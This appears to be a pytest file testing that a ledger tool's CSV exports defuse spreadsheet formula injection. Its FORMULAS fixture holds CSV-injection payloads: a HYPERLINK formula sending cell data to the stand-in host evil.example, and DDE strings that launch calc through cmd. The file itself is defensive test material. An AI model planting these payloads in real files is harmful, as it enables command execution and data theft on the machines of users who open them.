"""Output that other programs act on: CSV opened in a spreadsheet, Markdown posted to GitHub,
text printed on a terminal that cannot show every character. Data is untrusted; none of it
may run as a formula, notify anyone, turn into a control character, or crash the command."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from conftest import Sample, run, run_process
from ledger.tables import csv_cell

REPO = Path(__file__).resolve().parents[1]
CLAIM = "claims/cso-torture-complaints.yaml"

# -- CSV: formulas ---------------------------------------------------------------------------

FORMULAS = {
    "attributed_to": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "unit": "=cmd|' /C calc'!A0",
    "note": "  @SUM(1+1)*cmd|' /C calc'!A0",
    "statement": "-2+3+cmd|' /C calc'!A0",
}
"""Each a formula a spreadsheet would run (the note after leading spaces, which some skip)."""


def defused(raw: str) -> str:
    return "'" + raw


def formula_ledger(sample: Sample) -> None:
    """The torture-complaints claim with a formula in four fields, and a negative figure."""
    text = sample.read(CLAIM)
    text = text.replace(
        "statement: The memo says the PGR received more than 10,000 torture complaints in "
        "2012-2016.",
        f"statement: {json.dumps(FORMULAS['statement'])}",
    )
    text = text.replace(
        "    unit: complaints of torture received by the PGR\n",
        f"    unit: {json.dumps(FORMULAS['unit'])}\n    note: {json.dumps(FORMULAS['note'])}\n",
    )
    text += f"attributed_to: {json.dumps(FORMULAS['attributed_to'])}\n"
    text += "figures:\n" if "figures:" not in text else ""
    text = text.replace("figures:\n", "figures:\n  - value: -5\n    unit: net change\n", 1)
    sample.write(CLAIM, text)


CSV_COMMANDS = {
    "list": (["list", "claims", "--format", "csv"], ("attributed_to", "statement")),
    "query": (
        [
            "query",
            "--format",
            "csv",
            "SELECT c.attributed_to, c.statement, f.unit, f.note, f.value FROM claims c "
            "JOIN figures f ON f.claim_id = c.id",
        ],
        ("attributed_to", "statement", "unit", "note"),
    ),
    "figures": (["figures", "--format", "csv"], ("unit", "note")),
    "export-claims": (
        ["export", "--format", "csv", "--kind", "claims"],
        ("attributed_to", "statement"),
    ),
    "export-figures": (["export", "--format", "csv", "--kind", "figures"], ("unit", "note")),
}


def is_formula(cell: str) -> bool:
    """What a spreadsheet would run: a formula start, also after spaces; numbers aside."""
    if re.fullmatch(r"-?\d+(\.\d+)?", cell):
        return False
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip().startswith(
        ("=", "+", "-", "@", "\t", "\r")
    )


@pytest.mark.parametrize("command", sorted(CSV_COMMANDS))
def test_every_csv_output_defuses_formulas_the_same_way(sample_copy: Sample, command: str) -> None:
    formula_ledger(sample_copy)
    args, fields = CSV_COMMANDS[command]
    result = run(["--root", str(sample_copy.root), *args])
    assert result.exit_code == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    for field in fields:
        assert defused(FORMULAS[field]) in cells, (field, cells)
    assert not [cell for cell in cells if is_formula(cell)]
    if "unit" in fields:  # the figure's value: a number is a number, -5 stays -5
        assert "-5" in cells


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (2.5, "2.5"),
        (True, "1"),
        (None, ""),
        ("-5", "'-5"),
        (float("-inf"), "'-inf"),
        ("\t=1", "'\t=1"),
        (" \n=1", "' \n=1"),
        ("a=1", "a=1"),
        ("\x1b[31m", "\\x1b[31m"),
    ],
)
def test_a_cell_is_defused_by_its_type_not_its_look(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
